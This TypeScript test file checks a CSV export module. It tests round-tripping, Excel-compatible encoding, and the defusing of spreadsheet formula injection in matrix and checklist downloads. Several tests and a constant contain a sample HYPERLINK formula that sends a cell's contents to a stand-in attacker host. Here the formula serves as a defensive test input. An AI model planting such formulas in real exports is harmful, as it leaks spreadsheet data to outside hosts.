/** The CSV downloads round-trip through a parser: what a spreadsheet reads is what the generator meant. */
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { buildMatrix, cellWords, matrixColumns, matrixRows, matrixTable } from '../../src/lib/matrix.ts';
import {
  buildChecklists,
  checklistTable,
  type Checklist,
  CHECKLIST_CSV_HEADER,
  itemStatement,
  sourceKey,
} from '../../src/lib/checklists.ts';
import { fixtureModel, realModel } from '../fixtures/generated/model.ts';
import { wordsFormatter } from '../../src/i18n/words.ts';
import { roleName } from '../../src/lib/titles.ts';
import type { Model } from '../../src/lib/model.ts';

const sayIn = (model: Model) => wordsFormatter('en', (id) => roleName(model, id, 'en'));
import { basisCell } from '../../src/lib/basis.ts';
import { asSourceText } from '../../src/lib/text.ts';
import { plainMarkdown } from '../../src/lib/plain-markdown.ts';

type FreshCsv = typeof import('../../src/lib/csv.ts');
let csvResponse: FreshCsv['csvResponse'];
let parseCsv: FreshCsv['parseCsv'];
let toCsv: FreshCsv['toCsv'];
let CSV_BOM: FreshCsv['CSV_BOM'];
// Its tables are built when the module loads: each test loads it afresh, so that Stryker runs
// their mutants against these tests (see "A table a module builds when it loads" in the README).
beforeEach(async () => {
  vi.resetModules();
  ({ csvResponse, parseCsv, toCsv, CSV_BOM } = await import('../../src/lib/csv.ts'));
});

describe('toCsv', () => {
  it('starts with a byte order mark for Excel and ends rows with CRLF', () => {
    const text = toCsv([
      ['a', 'b'],
      ['1', '2'],
    ]);
    expect(text.startsWith(CSV_BOM)).toBe(true);
    expect(text.slice(1)).toBe('a,b\r\n1,2');
  });
  it('round-trips commas, quotes, line breaks and Chinese text', () => {
    const rows = [
      ['text', 'zh'],
      ['a, b', '部门负责人'],
      ['say "go"', '多行\n文本'],
      ['', 'x'],
    ];
    expect(parseCsv(toCsv(rows))).toEqual(rows);
  });
  it('defuses cells a spreadsheet would run as formulas', () => {
    expect(parseCsv(toCsv([['h'], ['=HYPERLINK("x")'], ['@SUM(A1)']]))).toEqual([
      ['h'],
      ['\'=HYPERLINK("x")'],
      ["'@SUM(A1)"],
    ]);
  });
  it('defuses a formula that spans several lines, and leaves a formula sign after the first character alone', () => {
    const cells = ['=HYPERLINK("https://attacker.example/?d="&A1,\n"open")', '+1\n2', '\n=1', 'ok\n=1'];
    expect(
      parseCsv(toCsv([['h'], ...cells.map((c) => [c])]))
        .slice(1)
        .map(([c]) => c),
    ).toEqual(['\'=HYPERLINK("https://attacker.example/?d="&A1,\n"open")', "'+1\n2", "'\n=1", 'ok\n=1']);
  });
});

describe('parseCsv and csvResponse', () => {
  it('defuses every formula start: = + - @, a tab, a carriage return, a line break', () => {
    const cells = ['=1', '+1', '-1', '@1', '\t1', '\r1', '\n1'];
    expect(
      parseCsv(toCsv([['h'], ...cells.map((c) => [c])]))
        .slice(1)
        .map(([c]) => c),
    ).toEqual(cells.map((c) => `'${c}`));
  });
  it('refuses text that is not CSV, naming the row', () => {
    expect(() => parseCsv('a,b\r\n"unclosed,c')).toThrow(/^invalid CSV: row 1: /);
  });
  it('serves the CSV as a UTF-8 download under the given file name', async () => {
    const response = csvResponse([['a'], ['部门']], 'matrix.csv');
    expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('Content-Disposition')).toBe('attachment; filename="matrix.csv"');
    // The bytes, not response.text(): a text decoder drops the byte order mark Excel needs.
    const bytes = Buffer.from(await response.arrayBuffer());
    expect(bytes.toString('utf8')).toBe(`${CSV_BOM}a\r\n部门`);
  });
});

/** A formula an author could paste into any text the exports carry: it opens a link when a cell is clicked. */
const MULTILINE_FORMULA = '=HYPERLINK("https://attacker.example/?d="&A1,\n"evidence")';

/** Every CSV export of `model`, by its file name. */
const exportsOf = (model: Model): [string, string[][]][] => [
  ['matrix.csv', matrixTable(buildMatrix(model), sayIn(model), 'en')],
  ...buildChecklists(model).map(
    (c) => [`checklists/${c.id}.csv`, checklistTable(c, sayIn(model))] as [string, string[][]],
  ),
];

describe('every CSV export defuses a multi-line formula in any cell', () => {
  // The test names are the exports' file names, so this table is built as the file loads; each test
  // checks the export built again in its beforeEach, where Stryker counts it (README, "Mutation testing").
  const exports = exportsOf(realModel());
  let built: Map<string, string[][]>;
  beforeEach(() => {
    built = new Map(exportsOf(realModel()));
  });
  it.each(exports)('%s', (name) => {
    const table = built.get(name)!;
    // the formula in every column of the first data row, as content could put it there
    const poisoned = [table[0]!, table[1]!.map(() => MULTILINE_FORMULA), ...table.slice(2)];
    const parsed = parseCsv(toCsv(poisoned));
    expect(parsed[1]).toEqual(table[1]!.map(() => `'${MULTILINE_FORMULA}`));
  });
});

describe('the matrix CSV', () => {
  for (const [name, load] of [
    ['fixture', fixtureModel],
    ['real content', realModel],
  ] as const) {
    it(`round-trips for the ${name}, and every cell reads back to its grant and basis`, () => {
      const model = load();
      const matrix = buildMatrix(model);
      const say = sayIn(model);
      const table = matrixTable(matrix, say, 'en');
      const parsed = parseCsv(toCsv(table));
      expect(parsed).toEqual(table);
      const columns = matrixColumns(matrix);
      for (const [i, row] of matrixRows(matrix).entries()) {
        expect(parsed[i + 1]![0]).toBe(row.id);
        columns.forEach((c, j) => {
          const words = cellWords(matrix.cells[row.id]![c.id]!);
          expect(parsed[i + 1]![4 + j]).toBe(words ? say(words) : '');
        });
      }
    });
  }
});

/** What the formula guard does to a cell's text. */
const defused = (text: string) => text.replace(/^([=+\-@\t\r\n])/, "'$1");

describe('the checklist CSVs', () => {
  let model: Model;
  let say: ReturnType<typeof sayIn>;
  let checklists: Checklist[];
  // built in each test, not as the file loads: Stryker counts only code run inside a test (README, "Mutation testing")
  beforeEach(() => {
    model = realModel();
    say = sayIn(model);
    checklists = buildChecklists(model);
  });
  // The test names are the checklists' ids, so this table is built as the file loads; each test checks
  // the checklist built in its beforeEach.
  const loaded = buildChecklists(realModel());
  it.each(loaded.map((c) => [c.id, c] as const))('%s round-trips, one row per item', (id) => {
    const checklist = checklists.find((c) => c.id === id)!;
    const parsed = parseCsv(toCsv(checklistTable(checklist, say)));
    expect(parsed[0]).toEqual([...CHECKLIST_CSV_HEADER]);
    expect(parsed.length).toBe(checklist.items.length + 1);
    checklist.items.forEach((item, i) => {
      const row = Object.fromEntries(CHECKLIST_CSV_HEADER.map((h, j) => [h, parsed[i + 1]![j]]));
      expect(row['item']).toBe(item.id);
      expect(row['statement']).toBe(defused(plainMarkdown(say(itemStatement(item)))));
      expect(row['evidence']).toBe(defused(item.evidence.map((e) => plainMarkdown(say(e))).join('\n')));
      // the owner by name, as the page names it
      expect(row['owner']).toBe(item.owner ? roleName(model, item.owner, 'en') : '');
      // the basis with the words it quotes: `6.1 «采用加密存储…»`, or `proposed`
      expect(row['basis']).toBe(basisCell(item.basis, item.quotes));
      for (const q of item.quotes ?? []) expect(row['basis']).toContain(`«${asSourceText(q)}»`);
      expect(row['source']).toBe(sourceKey(item.source));
      expect(row['done']).toBe('');
      // the columns the auditor fills in, empty
      expect([row['result'], row['sample'], row['finding'], row['tested_by'], row['date']]).toEqual([
        '',
        '',
        '',
        '',
        '',
      ]);
    });
  });
  it('are plain text: no Markdown code quotes, emphasis or link syntax in any cell', () => {
    const marked = checklists.flatMap((c) =>
      checklistTable(c, say)
        .slice(1)
        .flatMap((row) =>
          row.filter((cell) => /`|\*\*|\]\(/.test(cell)).map((cell) => `${c.id}: ${cell.slice(0, 80)}`),
        ),
    );
    expect(marked).toEqual([]);
    // the content does write code quotes there, so the check above has something to catch
    expect(checklists.some((c) => c.items.some((i) => say(itemStatement(i)).includes('`')))).toBe(true);
  });
});

describe('plainMarkdown', () => {
  it.each([
    ['a holder of `approve-release` (L1)', 'a holder of approve-release (L1)'],
    ['see [the runbook](/runbooks/rollback/) and **do it**', 'see the runbook and do it'],
    ['line `one`\nline two', 'line one\nline two'],
    ['a <password> & 5 * 3', 'a <password> & 5 * 3'],
    ['1. first step', '1. first step'],
  ])('%j → %j', (text, plain) => {
    expect(plainMarkdown(text)).toBe(plain);
  });
});
